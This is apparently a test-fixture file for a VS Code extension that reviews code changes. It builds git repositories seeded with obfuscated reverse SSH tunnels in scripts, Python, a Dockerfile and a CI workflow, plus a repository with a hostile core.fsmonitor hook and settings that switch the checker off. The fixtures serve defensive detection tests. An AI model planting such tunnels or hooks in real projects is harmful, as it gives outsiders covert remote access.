/** The windows that tests run in: what is open in each, and whether its folder is trusted. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { makeExample } from "../../examples/make-example.mjs";

/** A reverse tunnel that hides behind a wrapper and quotes: what the tests look for. */
export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";

/**
 * `name`: `test/vscode/in-host/<name>.window.ts` runs in it. `prepare` fills a new folder and says what to open. `isBench`: it
 * measures, and runs only when it is named. `env`: set for the server and all it starts.
 * @typedef {{
 *   name: string,
 *   hasTrust?: boolean,
 *   isBench?: boolean,
 *   settings?: object,
 *   env?: (folder: string) => Record<string, string>,
 *   prepare: (folder: string) => { folder: string } | { workspace: string },
 * }} TestWindow
 */

/** @type {readonly TestWindow[]} */
export const windows = [
  { name: "repository", prepare: (folder) => ({ folder: changedRepository(folder) }) },
  { name: "example", prepare: (folder) => ({ folder: makeExample(folder).repository }) },
  {
    name: "review",
    // What is on the screen must not settle what these tests settle.
    settings: { "countersign.reading.viewedEvidence": false },
    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
  },
  { name: "unborn", prepare: (folder) => ({ folder: unbornRepository(folder) }) },
  { name: "reading", prepare: (folder) => ({ folder: readingRepository(folder) }) },
  { name: "worktree", prepare: (folder) => ({ folder: linkedWorktree(folder) }) },
  {
    name: "no-git",
    // Nothing on the PATH, and where a git is for whoever names it. As from a command line: else the server asks a shell for another PATH.
    env: (folder) => ({ PATH: path.join(folder, "no-programs"), VSCODE_CLI: "1", COUNTERSIGN_TEST_GIT: gitOnPath() }),
    prepare: (folder) => ({ folder: reviewersRepository(folder) }),
  },
  { name: "plain-folder", prepare: (folder) => ({ folder: plainFolder(folder) }) },
  { name: "two-folders", prepare: twoFolders },
  { name: "start", isBench: true, prepare: (folder) => ({ folder: plainFolder(folder) }) },
  { name: "speed", isBench: true, prepare: (folder) => ({ folder: longScript(folder) }) },
  { name: "restricted", hasTrust: true, prepare: (folder) => ({ folder: hostileRepository(folder) }) },
];

/** One commit on main with an old tunnel in it, and an uncommitted change that brings a new one. */
export function changedRepository(folder) {
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\n`,
    "README.md": "# A project\n",
    "train.py": "import math\n\nprint(math.pi)\n",
  });
  git(folder, "init", "-q", "-b", "main");
  git(folder, "add", ".");
  git(folder, "commit", "-q", "-m", "Start");
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n${tunnel}\n`,
    "new file.sh": `#!/bin/sh\n${tunnel}\n`,
  });
  return folder;
}

/** The same, where git knows who reviews. */
export function reviewersRepository(folder) {
  changedRepository(folder);
  git(folder, "config", "user.name", "Ada");
  git(folder, "config", "user.email", "ada@example.invalid");
  return folder;
}

/** A worktree on a branch of its own; the repository it belongs to lies beside it. */
function linkedWorktree(folder) {
  const main = `${folder}-main`;
  reviewersRepository(main);
  git(main, "worktree", "add", "-q", "-b", "agent", folder);
  write(folder, {
    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n`,
    "README.md": "# A project\n\nMore.\n",
  });
  git(folder, "commit", "-q", "-a", "-m", "Say more");
  return folder;
}

/** A repository without a commit. */
function unbornRepository(folder) {
  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n` });
  git(folder, "init", "-q", "-b", "main");
  git(folder, "config", "user.name", "Ada");
  git(folder, "config", "user.email", "ada@example.invalid");
  return folder;
}

/** An uncommitted change with a hunk of each sort to read, in a repository that knows its reader. */
export function readingRepository(folder) {
  const script = ["#!/bin/sh", "set -e", "echo start", "cp a b", "cp b c", "cp c d", "echo middle", "ls -l", "ls -a", "echo end"];
  write(folder, {
    "build.sh": `${script.join("\n")}\n`,
    "notes.md": "# Notes\n\nHow to build.\n\nRun the script.\n",
    "gone.sh": "#!/bin/sh\necho gone\n",
    "train.py": "import subprocess\n\nprint(1)\n",
  });
  git(folder, "init", "-q", "-b", "main");
  git(folder, "config", "user.name", "Ada");
  git(folder, "config", "user.email", "ada@example.invalid");
  git(folder, "add", ".");
  git(folder, "commit", "-q", "-m", "Start");
  const changed = script.flatMap((line) =>
    line === "set -e" ? ["set -eu"] : line === "cp b c" ? [] : line === "ls -a" ? ["ls -a", tunnel] : [line],
  );
  write(folder, {
    "build.sh": `${changed.join("\n")}\n`,
    "notes.md": "# Notes\n\nHow to build it.\n\nRun the script.\n",
    "train.py": `import subprocess\n\nprint(1)\nsubprocess.run("${tunnel.replace("s\\sh", "ssh")}", shell=True)\n`,
    Dockerfile: `FROM debian:12\nRUN echo start && \\\n    ${tunnel}\n`,
    ".github/workflows/ci.yml": `on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo start\n          ${tunnel}\n`,
  });
  rmSync(path.join(folder, "gone.sh"));
  return folder;
}

function plainFolder(folder) {
  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n` });
  return folder;
}

function twoFolders(folder) {
  changedRepository(path.join(folder, "first"));
  plainFolder(path.join(folder, "second"));
  const file = path.join(folder, "two.code-workspace");
  writeFileSync(file, JSON.stringify({ folders: [{ path: "first" }, { path: "second" }] }));
  return { workspace: file };
}

/** Five thousand lines of what scripts are made of. */
function longScript(folder) {
  const kinds = [
    'echo "step"',
    "if [ -f a ]; then rm -f -- a; fi",
    "cp a.txt b.txt # keep",
    'for x in 1 2 3; do printf "%s" "$x"; done',
    "tar -xzf a.tgz -C out",
  ];
  const lines = Array.from({ length: 4_999 }, (_, index) => `${kinds[index % kinds.length]} # ${index}\n`);
  write(folder, { "long.sh": `#!/bin/bash\n${lines.join("")}` });
  return folder;
}

/** A repository that tries to configure the one who looks at it. */
function hostileRepository(folder) {
  changedRepository(folder);
  write(folder, {
    ".vscode/settings.json": JSON.stringify({ "countersign.diagnostics.scope": "all" }),
    ".countersign/policy.yml": "gate: off\n",
  });
  const trap = path.join(folder, "trap.sh");
  writeFileSync(trap, `#!/bin/sh\ntouch ${JSON.stringify(path.join(folder, "git-was-run"))}\n`, { mode: 0o755 });
  git(folder, "config", "core.fsmonitor", trap);
  return folder;
}

export function write(folder, files) {
  for (const [name, text] of Object.entries(files)) {
    const file = path.join(folder, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
}

function gitOnPath() {
  const folders = (process.env.PATH ?? "").split(path.delimiter).filter((folder) => path.isAbsolute(folder));
  return folders.map((folder) => path.join(folder, "git")).find((file) => existsSync(file)) ?? "";
}

export function git(folder, ...words) {
  const identity = ["-c", "user.name=Tester", "-c", "user.email=tester@example.invalid", "-c", "commit.gpgsign=false"];
  execFileSync("git", [...identity, ...words], { cwd: folder, stdio: ["ignore", "ignore", "inherit"] });
}
